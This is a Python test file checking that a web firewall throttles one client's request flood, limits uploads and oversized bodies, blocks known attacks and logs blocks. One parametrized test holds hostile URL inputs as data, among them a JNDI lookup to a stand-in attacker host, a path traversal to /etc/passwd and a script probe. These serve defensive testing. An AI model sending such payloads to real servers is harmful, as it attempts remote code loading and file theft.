"""The firewall blocks clients with too many or malicious requests, and only them."""

import http.client
import socket
from typing import Final
from urllib.parse import urlsplit

import pytest

from support.stack import NAMED, RATE_LIMIT, UPLOAD_RATE_LIMIT, Answer, Stack
from support.waiting import wait_until

ELSEWHERE: Final = "127.0.0.2"
OTHER: Final = "127.0.0.3"
REQUESTS: Final = 200
# A problem document, of the only type that WAF has for JSON.
PROBLEM: Final = "application/json"
# The rule looks every ten seconds, and back over a minute.
STOPPED_WITHIN_S: Final = 15
RELEASED_WITHIN_S: Final = 90


def ask(stack: Stack, source: str, method: str, target: str, body: bytes = b"") -> Answer:
    """Ask the distribution from one of this machine's own addresses."""
    parts = urlsplit(stack.api_url)
    connection = http.client.HTTPConnection("127.0.0.1", parts.port, timeout=30, source_address=(source, 0))
    try:
        headers = {"Host": parts.netloc, "Content-Type": "application/json", **NAMED}
        connection.request(method, target, body=body or None, headers=headers)
        answer = connection.getresponse()
        return Answer(answer.status, {name.lower(): value for name, value in answer.getheaders()}, answer.read())
    finally:
        connection.close()


@pytest.fixture(scope="module", autouse=True)
def several_addresses() -> None:
    try:
        with socket.socket() as probe:
            probe.bind((ELSEWHERE, 0))
    except OSError:
        pytest.skip("this system has one loopback address only")


def test_200_requests_of_one_address_are_stopped_and_released_again(signed_stack: Stack) -> None:
    assert REQUESTS > RATE_LIMIT
    statuses = [ask(signed_stack, ELSEWHERE, "GET", "/config.json").status for _ in range(REQUESTS)]
    assert statuses[:RATE_LIMIT] == [200] * RATE_LIMIT
    assert set(statuses) <= {200, 429}

    def stopped() -> Answer | None:
        answer = ask(signed_stack, ELSEWHERE, "GET", "/api/images")
        return answer if answer.status == 429 else None

    refused = wait_until("the address to be stopped", stopped, within_s=STOPPED_WITHIN_S)
    assert refused.headers["content-type"] == PROBLEM
    assert b'"status":429' in refused.body.replace(b" ", b"")
    assert ask(signed_stack, ELSEWHERE, "GET", "/").status == 429
    # No other client is blocked.
    assert ask(signed_stack, OTHER, "GET", "/").status == 200
    assert ask(signed_stack, "127.0.0.1", "GET", "/").status == 200

    def released() -> bool:
        return ask(signed_stack, ELSEWHERE, "GET", "/").status == 200

    # Not often: a question counts, too.
    wait_until("the address to be let in again", released, within_s=RELEASED_WITHIN_S, every_s=2)


def test_uploads_have_their_own_lower_limit(signed_stack: Stack) -> None:
    def promise() -> int:
        body = b'{"filename": "a.jpg", "content_type": "image/jpeg", "size_bytes": 5}'
        return ask(signed_stack, OTHER, "POST", "/api/uploads", body).status

    assert {promise() for _ in range(UPLOAD_RATE_LIMIT)} == {201}
    wait_until("uploads to be stopped", lambda: promise() == 429, within_s=STOPPED_WITHIN_S)
    assert ask(signed_stack, OTHER, "GET", "/api/images").status == 200


def test_a_body_that_is_too_large_is_refused_before_the_api(signed_stack: Stack) -> None:
    answer = ask(signed_stack, "127.0.0.4", "POST", "/api/uploads", b'{"filename": "' + b"a" * 17_000 + b'"}')
    assert answer.status == 413
    assert answer.headers["content-type"] == PROBLEM


@pytest.mark.parametrize(
    "target",
    ["/?x=${jndi:ldap://evil.example/a}", "/index.html?x=../../../../etc/passwd", "/api/images?x=%3Cscript%3Ealert(1)"],
)
def test_known_attacks_are_refused(signed_stack: Stack, target: str) -> None:
    answer = ask(signed_stack, "127.0.0.5", "GET", target.replace("{", "%7B").replace("}", "%7D"))
    assert answer.status == 403
    assert answer.headers["content-type"] == PROBLEM


def test_the_firewall_logs_blocked_requests_and_not_allowed_ones(signed_stack: Stack) -> None:
    logs = signed_stack.client("logs")
    groups = [
        group["logGroupName"] for group in logs.describe_log_groups(logGroupNamePrefix="aws-waf-logs-")["logGroups"]
    ]
    assert groups

    def told() -> str:
        events = logs.filter_log_events(logGroupName=groups[0])["events"]
        return "\n".join(event["message"] for event in events)

    text = wait_until("a line about the attack", lambda: text if "BLOCK" in (text := told()) else None, within_s=30)
    assert "evil.example" not in text
    assert '"action":"ALLOW"' not in text
